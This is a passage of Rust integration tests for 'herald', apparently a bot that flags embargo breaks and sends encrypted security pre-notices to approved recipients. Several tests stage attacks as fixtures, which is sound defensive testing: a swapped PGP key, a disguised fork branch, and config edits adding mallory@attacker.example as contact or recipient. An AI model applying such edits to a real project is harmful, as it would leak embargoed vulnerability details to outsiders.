        "repository": {
            "id": 186853002,
            "name": repository.split('/').nth(1).unwrap_or_default(),
            "full_name": repository,
            "private": private,
            "default_branch": "main",
            "owner": {"login": "Codertocat", "type": "User"}
        },
        "pusher": {"name": "octocat", "email": "mona@github.com"},
        "sender": {"login": "octocat", "type": "User"},
        "installation": {"id": INSTALLATION}
    });
    serde_json::to_vec(&payload).expect("JSON")
}

/// herald's possible-embargo-break comments on the tracking issue.
fn embargo_break_flags(fake: &FakeGitHub) -> Vec<String> {
    answers(fake)
        .into_iter()
        .map(|comment| comment.body)
        .filter(|body| body.starts_with("**Possible embargo break.**"))
        .collect()
}

both_stores!(a_public_mention_before_disclosure_is_flagged_on_the_tracking_issue_once);
async fn a_public_mention_before_disclosure_is_flagged_on_the_tracking_issue_once() {
    let fake = world().await;
    let harness = tracked(&fake).await;

    // A push that names nothing is not even stored; one to a private repository is private.
    let answer = harness
        .deliver(
            "push",
            "push-0",
            &push_event(REPO, false, "Tighten input checks"),
        )
        .await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    assert!(
        harness
            .store
            .delivery(&herald::incident::DeliveryId::parse("push-0").expect("an id"))
            .await
            .expect("store")
            .is_none(),
        "a push naming no advisory is not kept"
    );
    say(
        &harness,
        "push",
        "push-1",
        &push_event("Codertocat/security", true, &format!("Fix {GHSA}")),
    )
    .await;
    assert!(embargo_break_flags(&fake).is_empty());

    // A public pull request naming the advisory: flagged, once, however often it is edited.
    let opened = |action: &str| {
        pull_event(REPO, 12, |payload| {
            payload["action"] = action.into();
            payload["repository"]["private"] = false.into();
            payload["pull_request"]["state"] = "open".into();
            payload["pull_request"]["merged"] = false.into();
            payload["pull_request"]["title"] = format!("Fix {}", GHSA.to_lowercase()).into();
        })
    };
    say(&harness, "pull_request", "pr-1", &opened("opened")).await;
    say(&harness, "pull_request", "pr-2", &opened("edited")).await;
    let flags = embargo_break_flags(&fake);
    assert_eq!(flags.len(), 1, "{flags:#?}");
    assert!(
        flags[0].contains(&format!("The public pull request {REPO}"))
            && flags[0].contains(&format!("{REPO}/pull/12"))
            && flags[0].contains(GHSA),
        "{}",
        flags[0]
    );
    // A branch named as herald names its own, from someone's fork, is theirs: flagged too.
    let disguised = pull_event(REPO, 13, |payload| {
        payload["action"] = "opened".into();
        payload["repository"]["private"] = false.into();
        let pull = &mut payload["pull_request"];
        pull["state"] = "open".into();
        pull["merged"] = false.into();
        pull["head"]["ref"] = "herald/innocent".into();
        pull["head"]["repo"]["full_name"] = "mallory/Hello-World".into();
        pull["user"]["login"] = "mallory".into();
        pull["body"] = format!("Also closes {GHSA}").into();
    });
    say(&harness, "pull_request", "pr-3", &disguised).await;
    let flags = embargo_break_flags(&fake);
    assert_eq!(flags.len(), 2, "{flags:#?}");
    assert!(
        flags[1].contains(&format!("{REPO}/pull/13")),
        "{}",
        flags[1]
    );

    // A public commit naming it: flagged too.
    say(
        &harness,
        "push",
        "push-2",
        &push_event(REPO, false, &format!("Guard the parser\n\nFixes {GHSA}")),
    )
    .await;
    let flags = embargo_break_flags(&fake);
    assert_eq!(flags.len(), 3, "{flags:#?}");
    assert!(
        flags[2].contains("commit 6113728f27ae on main"),
        "{}",
        flags[2]
    );
    let timeline = timeline_details(&harness).await;
    assert_eq!(
        timeline
            .iter()
            .filter(|detail| detail.starts_with("possible embargo break"))
            .count(),
        3,
        "{timeline:?}"
    );
    assert_eq!(
        public_writes(&fake),
        Vec::<String>::new(),
        "herald itself wrote nothing public"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_scheduled_prenotice_waits_for_its_day_and_a_bad_key_is_reported);
async fn a_scheduled_prenotice_waits_for_its_day_and_a_bad_key_is_reported() {
    let fake = world().await;
    // The repository names a key file that is not there.
    let config = "tracking:\n  repository: Codertocat/security\nprenotify:\n  days_before: 5\n  recipients:\n    - address: distros@vs.openwall.example\n      key_file: .github/keys/distros.asc\n";
    let MailWorld {
        harness,
        sink,
        _key_dir: _keys,
        signing_public,
        ..
    } = reported_with_mail(&fake, config).await;
    fake.set_permission(REPO, "alice", "admin");
    let until = chrono::Utc::now() + chrono::Duration::days(10);
    command(
        &harness,
        "s-1",
        "alice",
        &format!(
            "/herald embargo {}",
            until.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
        ),
    )
    .await;
    // An approval names each key: without the key file, nothing is approved.
    say(
        &harness,
        "issues",
        "s-2",
        &label("alice", "prenotify:approved"),
    )
    .await;
    let refused = answers(&fake).last().expect("a reply").body.clone();
    assert!(
        refused.contains("Pre-notification not approved: the key file .github/keys/distros.asc for distros@vs.openwall.example is not in Codertocat/Hello-World"),
        "{refused}"
    );
    assert!(
        waiting_jobs(&harness, herald::jobs::JobKind::Prenotify)
            .await
            .is_empty()
    );

    // The key arrives; approved again by the label, the answer names the recipient and
    // the key (a label approval of pre-notification is answered too).
    let (distros, distros_key) = Gpg::with_new_key("distros <distros@vs.openwall.example>");
    fake.put_file(REPO, ".github/keys/distros.asc", &distros_key);
    say(
        &harness,
        "issues",
        "s-3a",
        &unlabel("alice", "prenotify:approved"),
    )
    .await;
    say(
        &harness,
        "issues",
        "s-3b",
        &label("alice", "prenotify:approved"),
    )
    .await;
    let approved = answers(&fake).last().expect("a reply").body.clone();
    let fingerprint = distros.fingerprint();
    assert!(
        approved.contains(&format!(
            "the embargoed notice goes to distros@vs.openwall.example (encrypted to key {fingerprint})"
        )),
        "{approved}"
    );
    // Due five days before the end, not now.
    let jobs = waiting_jobs(&harness, herald::jobs::JobKind::Prenotify).await;
    assert_eq!(jobs.len(), 1, "{jobs:?}");
    let due = jobs[0].run_after.expect("scheduled");
    let expected = until - chrono::Duration::days(5);
    assert!(
        (due - expected).num_seconds().abs() <= 1,
        "due {due}, expected {expected}"
    );
    assert!(prenotices(&sink).is_empty(), "nothing before its day");

    // Before its day a pusher swaps the key for theirs: nothing goes, and why is reported.
    let (_mallory, mallory_key) = Gpg::with_new_key("distros <distros@vs.openwall.example>");
    fake.put_file(REPO, ".github/keys/distros.asc", &mallory_key);
    run_now(&harness, &jobs).await;
    assert!(prenotices(&sink).is_empty(), "not to a key nobody approved");
    let reported = escalations(&fake, "prenotify for");
    assert_eq!(reported.len(), 1, "{reported:?}");
    assert!(
        reported[0].contains(&format!(
            "approval named distros\\@\u{200b}vs.openwall.example (encrypted to key {fingerprint})"
        )) && reported[0].contains("Embargoed text goes only where it was approved"),
        "{}",
        reported[0]
    );

    // The approved key is put back, the maintainers retry: sent, encrypted to it.
    fake.put_file(REPO, ".github/keys/distros.asc", &distros_key);
    command(&harness, "s-4", "alice", "/herald retry").await;
    let told = prenotices(&sink);
    assert_eq!(told.len(), 1);
    let body = decode_body(&told[0].1);
    assert!(String::from_utf8_lossy(&body).contains("-----BEGIN PGP MESSAGE-----"));
    distros.import(&signing_public);
    let (text, _) = distros.decrypt_verified(&body).expect("opens and verifies");
    assert!(text.contains("A short summary of the advisory."), "{text}");

    // A reply address changed after the approval holds the notices back too.
    fake.put_file(
        REPO,
        ".github/herald.yml",
        &format!("{config}  contact: mallory@attacker.example\n"),
    );
    command(
        &harness,
        "s-4b",
        "alice",
        &format!("/herald embargo {}", days_ahead(7)),
    )
    .await;
    assert_eq!(
        prenotices(&sink).len(),
        1,
        "no update with another reply address"
    );
    assert!(
        !escalations(
            &fake,
            "changed since the approval, and downstreams would write back"
        )
        .is_empty(),
        "{:?}",
        answers(&fake)
    );
    fake.put_file(REPO, ".github/herald.yml", config);
    command(&harness, "s-4c", "alice", "/herald retry").await;
    assert_eq!(prenotices(&sink).len(), 2, "the update, as approved");

    // A recipient added after the approval hears nothing of a moved date, nor of anything.
    fake.put_file(
        REPO,
        ".github/herald.yml",
        &format!("{config}    - address: mallory@attacker.example\n"),
    );
    command(
        &harness,
        "s-5",
        "alice",
        &format!("/herald embargo {}", days_ahead(6)),
    )
    .await;
    let told = prenotices(&sink);
    assert_eq!(told.len(), 3, "the approved recipient gets the update");
    assert!(
        told.iter().all(|(to, _)| to.contains("distros@")),
        "{:?}",
        told.iter().map(|(to, _)| to).collect::<Vec<_>>()
    );

    // Withdrawn: a date change tells nobody any more.
    say(
        &harness,
        "issues",
        "s-6",
        &unlabel("alice", "prenotify:approved"),
    )
    .await;
    command(
        &harness,
        "s-7",
        "alice",
        &format!("/herald embargo {}", days_ahead(4)),
    )
    .await;
    assert_eq!(prenotices(&sink).len(), 3, "no update after the withdrawal");
    assert_eq!(public_writes(&fake), Vec::<String>::new());
    harness.stop().await;
}
